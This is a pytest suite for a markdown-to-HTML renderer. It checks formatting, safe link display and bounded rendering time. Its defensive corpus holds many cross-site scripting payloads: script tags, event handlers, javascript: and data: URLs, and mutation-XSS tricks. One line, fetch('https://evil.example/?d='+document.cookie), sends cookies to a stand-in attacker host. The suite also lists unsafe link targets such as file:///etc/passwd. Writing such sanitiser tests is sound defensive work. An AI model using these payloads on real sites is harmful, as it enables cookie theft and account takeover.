"""What becomes of a stranger's text on our pages."""

import time
from collections.abc import Iterator
from html.parser import HTMLParser
from itertools import product
from urllib.parse import urlsplit

import pytest

from common.markdown import MAX_BRACKETS, MAX_CHARACTERS, render, render_said

REL = 'target="_blank" rel="nofollow noopener noreferrer"'


def link(href: str, words: str, host: str = "") -> str:
    label = f' <span class="link-host">({host})</span>' if host else ""
    return f'<a href="{href}" {REL}>{words}</a>{label}'


def test_a_reply_has_headings_lists_quotes_tables_code_and_emphasis() -> None:
    words = "# Title\n\n*waves* and **means** it, ~~not~~ `x < 1`\nnew line\n\n"
    text = words + "- a\n  - b\n\n> said\n\n|a|b|\n|-|-|\n|1|2|\n\n---\n"
    assert render(text).split("\n") == [
        "<h3>Title</h3>",
        "<p><em>waves</em> and <strong>means</strong> it, <s>not</s> <code>x &lt; 1</code><br>",
        "new line</p>",
        "<ul>",
        "<li>a",
        "<ul>",
        "<li>b</li>",
        "</ul>",
        "</li>",
        "</ul>",
        "<blockquote>",
        "<p>said</p>",
        "</blockquote>",
        "<table>",
        "<thead>",
        "<tr>",
        "<th>a</th>",
        "<th>b</th>",
        "</tr>",
        "</thead>",
        "<tbody>",
        "<tr>",
        "<td>1</td>",
        "<td>2</td>",
        "</tr>",
        "</tbody>",
        "</table>",
        "<hr>",
        "",
    ]


def test_indented_lines_and_lines_drawn_under_words_mean_nothing() -> None:
    assert render("    deep *breath*\n\nShe left.\n---\nNight.") == (
        "<p>deep <em>breath</em></p>\n<p>She left.</p>\n<hr>\n<p>Night.</p>\n"
    )


def test_what_a_person_typed_keeps_its_lines() -> None:
    assert render_said("# not a title\n- *waves*\n1. one") == (
        "<p># not a title<br>\n- <em>waves</em><br>\n1. one</p>\n"
    )


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("```python\nx = 1\n```", '<pre><code class="language-python">x = 1\n</code></pre>\n'),
        ("```c++ title\nx\n```", '<pre><code class="language-c++">x\n</code></pre>\n'),
        ('```py"onload=\nx\n```', "<pre><code>x\n</code></pre>\n"),
        ("```\n<b>x</b>\n```", "<pre><code>&lt;b&gt;x&lt;/b&gt;\n</code></pre>\n"),
    ],
)
def test_code_names_its_language(text: str, html: str) -> None:
    assert render(text) == html


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("[here](https://a.example/x)", link("https://a.example/x", "here", "a.example")),
        ("[a.example](https://a.example)", link("https://a.example", "a.example")),
        ("[a.example](https://b.example)", link("https://b.example", "a.example", "b.example")),
        ("[bank a.example/](https://a.example)", link("https://a.example", "bank a.example/", "a.example")),
        ("<https://a.example/x>", link("https://a.example/x", "https://a.example/x")),
        (
            "(see https://a.example/x_y(z).)",
            f"(see {link('https://a.example/x_y(z)', 'https://a.example/x_y(z)')}.)",
        ),
        ("[mail](mailto:a@b.example)", link("mailto:a@b.example", "mail", "a@b.example")),
        (
            "[раypal](https://раypal.example)",
            link("https://xn--ypal-43d9g.example", "раypal", "xn--ypal-43d9g.example"),
        ),
    ],
)
def test_links_say_where_they_lead(text: str, html: str) -> None:
    assert render(text) == f"<p>{html}</p>\n"


@pytest.mark.parametrize(
    "target",
    [
        "javascript:alert(1)",
        "data:text/html,x",
        "vbscript:x",
        "file:///etc/passwd",
        "ftp://a.example",
        "//a.example",
        "/accounts/logout/",
        "wallet/",
        "https://bank.example@a.example",
        "https://bank.example%2f@a.example",
        "https:a.example",
        "https:///a.example",
        "mailto:",
    ],
)
def test_other_addresses_are_not_links(target: str) -> None:
    assert "<a" not in render(f"[x]({target}) <{target}> {target}")


def test_pictures_are_their_words() -> None:
    assert render("![a cat](https://a.example/c.png)") == "<p>a cat</p>\n"
    assert render("![a [b](https://c.example)](https://a.example/c.png)") == "<p>a b</p>\n"
    linked = render("[![cat](https://a.example/c.png)](https://b.example)")
    assert (
        linked
        == f'<p><a href="https://b.example" {REL}>cat</a> <span class="link-host">(b.example)</span></p>\n'
    )


def test_html_is_text() -> None:
    assert render("<b>x</b> & &amp; &lt;i&gt;") == "<p>&lt;b&gt;x&lt;/b&gt; &amp; &amp; &lt;i&gt;</p>\n"


def test_a_text_beyond_the_limit_is_shown_as_it_is() -> None:
    text = "*a* <b>\n" * (MAX_CHARACTERS // 8 + 1)
    assert render(text) == f'<p class="as-typed">{text.replace("<", "&lt;").replace(">", "&gt;")}</p>'


def test_a_text_full_of_brackets_has_no_links_but_everything_else() -> None:
    text = "[a](https://a.example) " * (MAX_BRACKETS + 1) + "*b*"
    html = render(text)
    # The addresses themselves are still found; the search for the end of a link is what is left out.
    assert "[a](<a href=" in html
    assert html.endswith("<em>b</em></p>\n")


# --- X29, X33: nothing runs and nothing is fetched ---------------------------------------------------------

_SCRIPTS = [
    "alert(1)",
    "fetch('https://evil.example/?d='+document.cookie)",
    "import('https://evil.example/x.js')",
]
_URLS = [
    "javascript:{js}",
    "JaVaScRiPt:{js}",
    "java\tscript:{js}",
    "java\nscript:{js}",
    "&#106;avascript:{js}",
    "&#x6A;&#x61;vascript&colon;{js}",
    "\x01javascript:{js}",
    " javascript:{js}",
    "javascript&NewLine;:{js}",
    "data:text/html,<script>{js}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:{js}",
    "view-source:javascript:{js}",
    "//evil.example/{js}",
    "\\\\evil.example\\x",
    "https://evil.example\\@good.example/{js}",
    "https://good.example@evil.example/",
]
_AROUND_URLS = [
    "[x]({})",
    "[x](<{}>)",
    '[x]({} "title")',
    "![x]({})",
    "![x](<{}>)",
    "[![x]({})]({})",
    "<{}>",
    "[x]: {}\n\n[x]",
    "[x]: <{}>\n\n![x][x]",
    "![x][1]\n\n[1]: {}",
    "**[x]({})**",
    "> - [x]({})",
    "|a|\n|-|\n|[x]({})|",
    '<a href="{}">x</a>',
    '<img src="{}">',
    '<iframe src="{}"></iframe>',
    '<form action="{}"><button>x</button></form>',
    '<meta http-equiv="refresh" content="0;url={}">',
    '<link rel="stylesheet" href="{}">',
    '<base href="{}">',
    '<object data="{}"></object>',
    '<svg><a xlink:href="{}"><text>x</text></a></svg>',
    '<math><a href="{}">x</a></math>',
    '<div style="background:url({})">x</div>',
    "<video><source src={}></video>",
]
_HTML = [
    "<script>{js}</script>",
    "<ScRiPt\n>{js}</sCrIpT>",
    "<img src=x onerror={js}>",
    "<img src=x onerror\n=\n'{js}'>",
    "<svg/onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<details open ontoggle={js}>",
    "<body onload={js}>",
    "<input autofocus onfocus={js}>",
    "<iframe srcdoc='<script>{js}</script>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror={js}>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'>",
    "<template><img src=x onerror={js}></template>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<!--><img src=x onerror={js}>-->",
    "<![CDATA[<img src=x onerror={js}>]]>",
    "<?xml version='1.0'?><x onload={js}/>",
    "</code></pre><script>{js}</script>",
    "</p></div></li></ol><script>{js}</script>",
    "&lt;script&gt;{js}&lt;/script&gt;",
    "&#60;script&#62;{js}&#60;/script&#62;",
    "\x00<script>{js}</script>",
    "<a href=https://a.example onclick={js}>x</a>",
    "<p style=animation-name:x onanimationstart={js}>",
]
_AROUND_HTML = [
    "{}",
    "*{}*",
    "`{}",
    "```\n{}\n```",
    "```{}\nx\n```",
    "# {}",
    "- {}",
    "> {}",
    "|{}|\n|-|\n|{}|",
    "[{}](https://a.example)",
    "![{}](x)",
    "[x](https://a.example '{}')",
]


def corpus() -> Iterator[str]:
    for url, around, script in product(_URLS, _AROUND_URLS, _SCRIPTS[:1]):
        yield around.replace("{}", url.replace("{js}", script))
    for html, around, script in product(_HTML, _AROUND_HTML, _SCRIPTS):
        yield around.replace("{}", html.replace("{js}", script))


ALLOWED = {
    **{tag: set() for tag in ["p", "br", "hr", "strong", "em", "s", "pre", "blockquote", "ul", "li"]},
    **{tag: set() for tag in ["h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"]},
    "a": {"href", "title", "target", "rel"},
    "code": {"class"},
    "ol": {"start"},
    "span": {"class"},
}


class Inspector(HTMLParser):
    """Every tag and attribute is on the list, and every link is one a reader may be sent to."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.complaints: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        names = {name for name, _value in attrs}
        if tag not in ALLOWED or not names <= ALLOWED[tag]:
            self.complaints.append(f"<{tag} {attrs}>")
        given = dict(attrs)
        if tag == "a" and "href" in given:
            parts = urlsplit(given["href"] or "")
            if parts.scheme not in ("http", "https", "mailto") or "@" in parts.netloc:
                self.complaints.append(f"href {given['href']!r}")
            if given.get("rel") != "nofollow noopener noreferrer":
                self.complaints.append(f"rel {given.get('rel')!r}")
        if tag == "span" and given != {"class": "link-host"}:
            self.complaints.append(f"span {attrs}")

    def handle_comment(self, data: str) -> None:
        self.complaints.append(f"<!--{data}")

    def handle_decl(self, decl: str) -> None:
        self.complaints.append(f"<!{decl}")

    def handle_pi(self, data: str) -> None:
        self.complaints.append(f"<?{data}")


def test_the_corpus_is_large() -> None:
    assert len(set(corpus())) == 1265


def test_no_text_of_the_corpus_brings_more_than_the_list_allows() -> None:
    for text in corpus():
        for html in (render(text), render_said(text)):
            inspector = Inspector()
            inspector.feed(html)
            inspector.close()
            assert inspector.complaints == [], (text, html)


# --- X45: the cost is bounded -------------------------------------------------------------------------------


NASTY = (
    *(
        "[",
        "[a](",
        "![",
        "*",
        "*a ",
        "a**b",
        "_a__b ",
        "`",
        "`a",
        ">",
        "> ",
        "- ",
        "- a\n",
        "1. a\n",
        "~~a",
        "|",
    ),
    *("|a|\n|-|\n", "<", "<http://a", "&", "&#", "\\", '[a](b "', "a\n", "# a\n", "```\n", "*_`[", "> - "),
    *("http://a.b ", "https://", "(https://a.b)", "*[a](b)*"),
)


@pytest.mark.parametrize("run", NASTY)
def test_nasty_runs_cost_no_more_than_a_page_may(run: str) -> None:
    for size in (MAX_CHARACTERS, 100_000):
        text = (run * size)[:size]
        started = time.process_time()
        render(text)
        render_said(text)
        assert time.process_time() - started < 1.5
